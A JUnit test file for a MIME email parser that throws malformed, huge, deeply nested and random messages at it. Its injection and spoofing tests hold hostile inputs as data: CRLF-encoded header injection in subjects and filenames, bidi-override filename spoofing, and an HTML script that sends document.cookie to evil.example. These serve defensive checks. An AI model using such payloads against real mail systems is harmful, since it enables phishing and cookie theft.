package com.qmailing.gateway.mime;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Random;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Messages built to break parsers. None may make the parser throw, hang or return nothing;
 * each must give whatever can sensibly be read from it.
 */
// A guard against hangs, far above any expected run time; speed is printed, not asserted.
@Timeout(value = 2, unit = TimeUnit.MINUTES)
class HostileMessagesTest {

    private static final int MB = 1024 * 1024;

    private final MimeParser parser = new MimeParser();

    // --- broken structure ---------------------------------------------------------------

    @Test
    void aMultipartWithoutBoundaryIsReadAsText() {
        ParsedMessage message = parser.parse(Eml.utf8("""
                Content-Type: multipart/mixed

                --x
                Content-Type: text/plain

                hello
                --x--
                """));

        assertThat(message.textBody()).contains("hello");
        assertThat(message.attachments()).isEmpty();
    }

    @Test
    void aBoundaryThatNeverOccursLeavesTheContentAsText() {
        ParsedMessage message = parser.parse(Eml.utf8("""
                Subject: lost boundary
                Content-Type: multipart/mixed; boundary="declared"

                --actual
                Content-Type: text/plain

                the real text
                --actual--
                """));

        assertThat(message.subject()).isEqualTo("lost boundary");
        assertThat(message.textBody()).contains("the real text");
        assertThat(message.previewText()).contains("the real text");
    }

    @Test
    void aMissingClosingBoundaryStillGivesEveryPart() {
        byte[] raw = Eml.utf8("""
                Content-Type: multipart/mixed; boundary=b

                --b
                Content-Type: text/plain

                body
                --b
                Content-Type: application/zip; name=a.zip
                Content-Transfer-Encoding: base64

                UEsDBAo=
                """);

        ParsedMessage message = parser.parse(raw);

        assertThat(message.textBody()).isEqualTo("body");
        assertThat(message.attachments()).containsExactly(new AttachmentInfo(0, "a.zip", "application/zip", 5));
        assertThat(parser.attachment(raw, 0).orElseThrow().bytes()).hasSize(5);
    }

    @Test
    void brokenBase64AndQuotedPrintableAreDecodedAsFarAsTheyGo() {
        byte[] raw = Eml.utf8("""
                Content-Type: multipart/mixed; boundary=b

                --b
                Content-Type: text/plain; charset=utf-8
                Content-Transfer-Encoding: quoted-printable

                soft=\s
                break =XY and =E2=82
                --b
                Content-Type: application/octet-stream
                Content-Transfer-Encoding: base64

                SGVsbG8*!!gV29y bGQ
                --b--
                """);

        ParsedMessage message = parser.parse(raw);

        assertThat(message.textBody()).startsWith("soft");
        AttachmentInfo listed = message.attachments().get(0);
        assertThat(parser.attachment(raw, 0).orElseThrow().bytes()).hasSize((int) listed.sizeBytes());
    }

    // --- charsets ------------------------------------------------------------------------

    @Test
    void anUnknownCharsetIsGuessedFromTheBytes() {
        assertThat(parser.parse(bodyIn("x-klingon", "Gr\u00FC\u00DFe".getBytes(StandardCharsets.UTF_8))).textBody())
                .isEqualTo("Gr\u00FC\u00DFe");
        assertThat(parser.parse(bodyIn("x-klingon", "Gr\u00FC\u00DFe".getBytes(StandardCharsets.ISO_8859_1))).textBody())
                .isEqualTo("Gr\u00FC\u00DFe");
    }

    @Test
    void aWrongCharsetLabelFallsBackToWhatTheBytesAre() {
        assertThat(parser.parse(bodyIn("us-ascii", "caf\u00E9".getBytes(StandardCharsets.UTF_8))).textBody())
                .isEqualTo("caf\u00E9");
        assertThat(parser.parse(bodyIn("utf-8", "caf\u00E9".getBytes(StandardCharsets.ISO_8859_1))).textBody())
                .isEqualTo("caf\u00E9");
        assertThat(parser.parse(bodyIn("\"utf-8; x=\"", "caf\u00E9".getBytes(StandardCharsets.UTF_8))).textBody())
                .isEqualTo("caf\u00E9");
    }

    @Test
    void rawEightBitUtf8HeadersAreRead() {
        ParsedMessage message = parser.parse(Eml.utf8("""
                From: J\u00F6rg M\u00FCller <joerg@example.de>
                Subject: \u00DCberweisung \u20AC 10 \u2014 \u6771\u4EAC
                Content-Type: multipart/mixed; boundary=b

                --b
                Content-Type: application/pdf; name="Rechnung M\u00E4rz.pdf"

                x
                --b--
                """));

        assertThat(message.subject()).isEqualTo("\u00DCberweisung \u20AC 10 \u2014 \u6771\u4EAC");
        assertThat(message.from()).isEqualTo(new MessageAddress("joerg@example.de", "J\u00F6rg M\u00FCller"));
        assertThat(message.attachments()).extracting(AttachmentInfo::filename).containsExactly("Rechnung M\u00E4rz.pdf");
    }

    @Test
    void rawEightBitLatin1HeadersAreRead() {
        ParsedMessage message = parser.parse(Eml.in("""
                From: J\u00F6rg M\u00FCller <joerg@example.de>
                Subject: \u00DCberweisung f\u00FCr M\u00E4rz
                Content-Type: multipart/mixed; boundary=b

                --b
                Content-Type: application/pdf
                Content-Disposition: attachment; filename="Gr\u00FC\u00DFe.pdf"

                x
                --b--
                """, StandardCharsets.ISO_8859_1));

        assertThat(message.subject()).isEqualTo("\u00DCberweisung f\u00FCr M\u00E4rz");
        assertThat(message.from().name()).isEqualTo("J\u00F6rg M\u00FCller");
        assertThat(message.attachments()).extracting(AttachmentInfo::filename).containsExactly("Gr\u00FC\u00DFe.pdf");
    }

    // --- size and depth ------------------------------------------------------------------

    @Test
    void aThousandAttachmentsAreListedAndEachCanBeFetched() {
        StringBuilder text = new StringBuilder("Subject: many\nContent-Type: multipart/mixed; boundary=sep\n\n"
                + "--sep\nContent-Type: text/plain\n\nsee attached\n");
        for (int i = 0; i < 1000; i++) {
            text.append("--sep\nContent-Type: application/octet-stream\n")
                    .append("Content-Disposition: attachment; filename=\"file-").append(i).append(".bin\"\n")
                    .append("Content-Transfer-Encoding: base64\n\n")
                    .append(Eml.base64(randomBytes(i, 1000 + i))).append('\n');
        }
        text.append("--sep--\n");
        byte[] raw = Eml.utf8(text.toString());

        ParsedMessage message = Measured.run("parse: 1,000 attachments (" + raw.length / 1024 + " kB)",
                () -> parser.parse(raw)).result();
        AttachmentContent last = Measured.run("attachment(raw, 999) of 1,000",
                () -> parser.attachment(raw, 999).orElseThrow()).result();

        assertThat(message.textBody()).isEqualTo("see attached");
        assertThat(message.attachments()).hasSize(1000);
        for (int i = 0; i < 1000; i++) {
            assertThat(message.attachments().get(i)).isEqualTo(new AttachmentInfo(i, "file-" + i + ".bin",
                    "application/octet-stream", 1000 + i));
        }
        assertThat(last.bytes()).isEqualTo(randomBytes(999, 1999));
        assertThat(parser.attachment(raw, 0).orElseThrow().bytes()).isEqualTo(randomBytes(0, 1000));
        assertThat(parser.attachment(raw, 500).orElseThrow().bytes()).isEqualTo(randomBytes(500, 1500));
    }

    @Test
    void aTwentyMegabyteAttachmentIsMeasuredWithoutBeingKeptAndFetchedWhole() {
        byte[] payload = randomBytes(20, 20 * MB);
        byte[] raw = Eml.concat(Eml.utf8("""
                Subject: big
                Content-Type: multipart/mixed; boundary=big

                --big
                Content-Type: text/plain

                the big one
                --big
                Content-Type: application/x-tar
                Content-Disposition: attachment; filename=archive.tar
                Content-Transfer-Encoding: base64

                """), Eml.utf8(Eml.base64(payload)), Eml.utf8("\n--big--\n"));

        parser.parse(raw);
        Measured<ParsedMessage> parsed = Measured.run("parse: one 20 MB attachment (" + raw.length / MB + " MB raw)",
                () -> parser.parse(raw));
        Measured<AttachmentContent> fetched = Measured.run("attachment(raw, 0): the 20 MB attachment",
                () -> parser.attachment(raw, 0).orElseThrow());

        assertThat(parsed.result().attachments()).containsExactly(
                new AttachmentInfo(0, "archive.tar", "application/x-tar", payload.length));
        assertThat(Arrays.equals(fetched.result().bytes(), payload)).isTrue();
        // Listing streams the body through a fixed buffer; fetching keeps it, with growth copies.
        assertThat(parsed.allocatedBytes()).isLessThan(raw.length / 4);
        assertThat(fetched.allocatedBytes()).isLessThan(5L * payload.length);
    }

    @Test
    void fetchingOneAttachmentSkipsTheOthersWithoutDecodingThem() {
        byte[] raw = Eml.concat(Eml.utf8("""
                Content-Type: multipart/mixed; boundary=sep

                --sep
                Content-Type: application/octet-stream
                Content-Transfer-Encoding: base64

                """), Eml.utf8(Eml.base64(randomBytes(7, 20 * MB))), Eml.utf8("""

                --sep
                Content-Type: text/plain; name=small.txt
                Content-Transfer-Encoding: base64

                c21hbGw=
                --sep--
                """));

        parser.attachment(raw, 1);
        Measured<AttachmentContent> small = Measured.run("attachment(raw, 1) behind a 20 MB attachment",
                () -> parser.attachment(raw, 1).orElseThrow());

        assertThat(small.result().bytes()).isEqualTo("small".getBytes(StandardCharsets.US_ASCII));
        assertThat(small.allocatedBytes()).isLessThan(MB);
    }

    @Test
    void aThousandLevelsOfNestingEndInOneOpaqueAttachmentBelowLevelFifty() {
        int depth = 1000;
        // Boundaries that are not prefixes of each other, as RFC 2046 requires of nested ones.
        StringBuilder text = new StringBuilder("Subject: deep\nContent-Type: multipart/mixed; boundary=n0x\n\n"
                + "--n0x\nContent-Type: text/plain\n\ntop\n");
        for (int level = 1; level < depth; level++) {
            text.append("--n").append(level - 1).append("x\nContent-Type: multipart/mixed; boundary=n")
                    .append(level).append("x\n\n");
        }
        text.append("--n").append(depth - 1).append("x\nContent-Type: text/plain\n\ninnermost\n");
        for (int level = depth - 1; level >= 0; level--) {
            text.append("--n").append(level).append("x--\n");
        }
        byte[] raw = Eml.utf8(text.toString());

        ParsedMessage message = Measured.run("parse: 1,000 nested multiparts", () -> parser.parse(raw)).result();

        assertThat(message.textBody()).isEqualTo("top");
        assertThat(message.attachments()).extracting(AttachmentInfo::contentType)
                .containsExactly(PartHeaders.OCTET_STREAM);
        String opaque = new String(parser.attachment(raw, 0).orElseThrow().bytes(), StandardCharsets.US_ASCII);
        // The multipart below the fiftieth level, handed over with its content as it stands.
        assertThat(opaque).startsWith("--n" + MimeWalker.MAX_MULTIPART_DEPTH + "x\r\n").contains("innermost");
    }

    @Test
    void aThousandNestedAttachedMessagesAreOneAttachment() {
        String message = "Subject: innermost\n\nhello\n";
        for (int level = 0; level < 1000; level++) {
            message = "Subject: level " + level + "\nContent-Type: message/rfc822\n\n" + message;
        }
        byte[] raw = Eml.utf8(message);

        ParsedMessage parsed = Measured.run("parse: 1,000 nested message/rfc822", () -> parser.parse(raw)).result();

        assertThat(parsed.subject()).isEqualTo("level 999");
        assertThat(parsed.attachments()).extracting(AttachmentInfo::filename).containsExactly("level 998.eml");
    }

    @Test
    void aHundredKilobyteHeaderLineIsReadWhole() {
        String subject = "x".repeat(100 * 1024);
        byte[] raw = Eml.utf8("Subject: " + subject + "\nTo: " + "a@example.com,".repeat(7000) + "\n\nbody\n");

        ParsedMessage message = Measured.run("parse: 100 kB header lines", () -> parser.parse(raw)).result();

        assertThat(message.subject()).isEqualTo(subject);
        assertThat(message.to()).hasSize(7000);
        assertThat(message.textBody()).isEqualTo("body\n");
    }

    @Test
    void aHundredThousandHeaderFieldsAreAccepted() {
        byte[] raw = Eml.utf8("X-Filler: y\n".repeat(100_000) + "Subject: after the filler\n\nbody\n");

        ParsedMessage message = Measured.run("parse: 100,000 header fields", () -> parser.parse(raw)).result();

        assertThat(message.subject()).isEqualTo("after the filler");
        assertThat(message.textBody()).isEqualTo("body\n");
    }

    @Test
    void aFiveMegabyteLineWithoutBreaksIsABody() {
        byte[] raw = Eml.utf8("Subject: one line\n\n" + "y".repeat(5 * MB));

        ParsedMessage message = Measured.run("parse: 5 MB body without line breaks", () -> parser.parse(raw)).result();

        assertThat(message.textBody()).hasSize(5 * MB);
        assertThat(message.previewText()).hasSize(PreviewText.LENGTH);
    }

    @Test
    void twoHundredThousandUnclosedTagsAreSanitisedInLinearTime() {
        byte[] raw = Eml.utf8("Content-Type: text/html\n\n" + "<div><font>".repeat(100_000) + "end");

        ParsedMessage message = Measured.run("parse: HTML with 200,000 unclosed tags", () -> parser.parse(raw)).result();

        assertThat(message.htmlBody().contains("end")).as("the text after the tags survives").isTrue();
        assertThat(message.previewText()).isEqualTo("end");
    }

    // --- degenerate input ----------------------------------------------------------------

    @Test
    void emptyInputGivesNullsAndEmptyLists() {
        ParsedMessage message = parser.parse(new byte[0]);

        assertThat(message).isEqualTo(ParsedMessage.empty(null));
        assertThat(parser.attachment(new byte[0], 0)).isEmpty();
    }

    @Test
    void binaryGarbageNeverBreaksTheParser() {
        for (int seed = 0; seed < 50; seed++) {
            byte[] garbage = randomBytes(seed, 64 * 1024);

            assertParsesAndEveryAttachmentDownloads(garbage);
        }
    }

    @Test
    void garbageWithNulBytesShowsNoControlCharacters() {
        ParsedMessage message = parser.parse(new byte[] {0, 1, 2, '\n', 'S', 'u', 'b', 0, '\r', '\n', 7, 8});

        assertThat(message.textBody()).doesNotContain("\u0000", "\u0001", "\u0007", "\r");
    }

    @Test
    void mutatedRealMessagesNeverBreakTheParser() throws Exception {
        Random random = new Random(4711);
        for (Path file : SharedTestData.mimeToolsMessages()) {
            byte[] original = Files.readAllBytes(file);
            for (int round = 0; round < 10; round++) {
                assertParsesAndEveryAttachmentDownloads(mutate(original, random));
            }
        }
    }

    // --- injection and spoofing ----------------------------------------------------------

    @Test
    void encodedLineBreaksCannotInjectHeadersThroughSubjectNameOrFileName() {
        ParsedMessage message = parser.parse(Eml.utf8("""
                From: =?utf-8?Q?Support=0D=0AReply-To=3A_x=40evil.example?= <support@bank.example>
                To: =?utf-8?Q?a=0A?=: x=?utf-8?Q?=0D?=@example.com;
                Subject: =?utf-8?Q?Hello=0D=0ABcc:_victim@example.com=0D=0A=0D=0Abody?=
                Content-Type: multipart/mixed; boundary=b

                --b
                Content-Type: text/plain

                hi
                --b
                Content-Type: text/html
                Content-Disposition: attachment; filename="=?utf-8?Q?r=0D=0AX-Evil:_yes=0D=0A.pdf?="

                x
                --b
                Content-Type: application/pdf
                Content-Disposition: attachment; filename*=utf-8''a%0D%0AX-Evil%3A%20yes%00.pdf

                x
                --b--
                """));

        assertThat(message.subject()).isEqualTo("Hello Bcc: victim@example.com body");
        assertThat(message.from()).isEqualTo(new MessageAddress("support@bank.example", "Support Reply-To: x@evil.example"));
        assertThat(message.to()).allSatisfy(address -> assertThat(address.address()).doesNotContain("\r", "\n"));
        assertThat(message.attachments()).extracting(AttachmentInfo::filename)
                .containsExactly("r X-Evil: yes .pdf", "a X-Evil: yes .pdf");
    }

    @Test
    void bidiOverridesAndZeroWidthCharactersAreRemovedFromSubjectAndFileName() {
        ParsedMessage message = parser.parse(Eml.utf8("""
                From: =?utf-8?Q?Pay=E2=80=8Bpal?= <service@paypa1.example>
                Subject: =?utf-8?Q?Invoice_=E2=80=AEfdp.exe_=EF=BB=BFdue?= \u2067now\u2069
                Content-Type: multipart/mixed; boundary=b

                --b
                Content-Type: application/octet-stream
                Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe

                x
                --b
                Content-Type: application/octet-stream; name="=?utf-8?Q?photo=E2=80=8D=E2=80=8C.jpg=E2=81=A0?="

                x
                --b--
                """));

        assertThat(message.subject()).isEqualTo("Invoice fdp.exe due now");
        assertThat(message.from().name()).isEqualTo("Paypal");
        assertThat(message.attachments()).extracting(AttachmentInfo::filename)
                .containsExactly("invoicefdp.exe", "photo.jpg");
    }

    @Test
    void htmlIsSanitisedAndRemoteImagesAreLeftForTheReader() {
        ParsedMessage message = parser.parse(Eml.utf8("""
                Content-Type: text/html; charset=utf-8

                <p>Dear customer,</p>
                <script>document.location='https://evil.example/?c='+document.cookie</script>
                <img src="https://tracker.example/open.gif" onerror="alert(1)">
                <a href="javascript:alert(1)">verify</a> <a href="https://bank.example/login">login</a>
                <iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="pin"></form>
                """));

        assertThat(message.htmlBody())
                .contains("<p>Dear customer,</p>", "<img src=\"https://tracker.example/open.gif\">",
                        "<a>verify</a>", "<a href=\"https://bank.example/login\">login</a>")
                .doesNotContain("<script", "document.cookie", "onerror", "javascript:", "<iframe", "<form", "<input");
        assertThat(message.previewText()).isEqualTo("Dear customer, verify login");
    }

    // --- helpers -------------------------------------------------------------------------

    private void assertParsesAndEveryAttachmentDownloads(byte[] raw) {
        ParsedMessage message = parser.parse(raw);

        assertThat(message).isNotNull();
        for (AttachmentInfo listed : message.attachments()) {
            AttachmentContent content = parser.attachment(raw, listed.index()).orElseThrow();
            assertThat(content.info()).isEqualTo(listed);
        }
    }

    private static byte[] bodyIn(String charset, byte[] body) {
        return Eml.concat(Eml.utf8("Content-Type: text/plain; charset=" + charset + "\n\n"), body);
    }

    private static byte[] randomBytes(long seed, int length) {
        byte[] bytes = new byte[length];
        new Random(seed).nextBytes(bytes);
        return bytes;
    }

    /** Flips, drops, duplicates or truncates a few bytes, the damage mail suffers in transit and in attacks. */
    private static byte[] mutate(byte[] original, Random random) {
        byte[] bytes = original.clone();
        int edits = 1 + random.nextInt(8);
        for (int i = 0; i < edits && bytes.length > 0; i++) {
            int at = random.nextInt(bytes.length);
            switch (random.nextInt(4)) {
                case 0 -> bytes[at] = (byte) random.nextInt(256);
                case 1 -> bytes = Eml.concat(Arrays.copyOfRange(bytes, 0, at), Arrays.copyOfRange(bytes, at + 1, bytes.length));
                case 2 -> bytes = Eml.concat(Arrays.copyOfRange(bytes, 0, at), Arrays.copyOfRange(bytes, at / 2, bytes.length));
                default -> bytes = Arrays.copyOf(bytes, at);
            }
        }
        return bytes;
    }
}
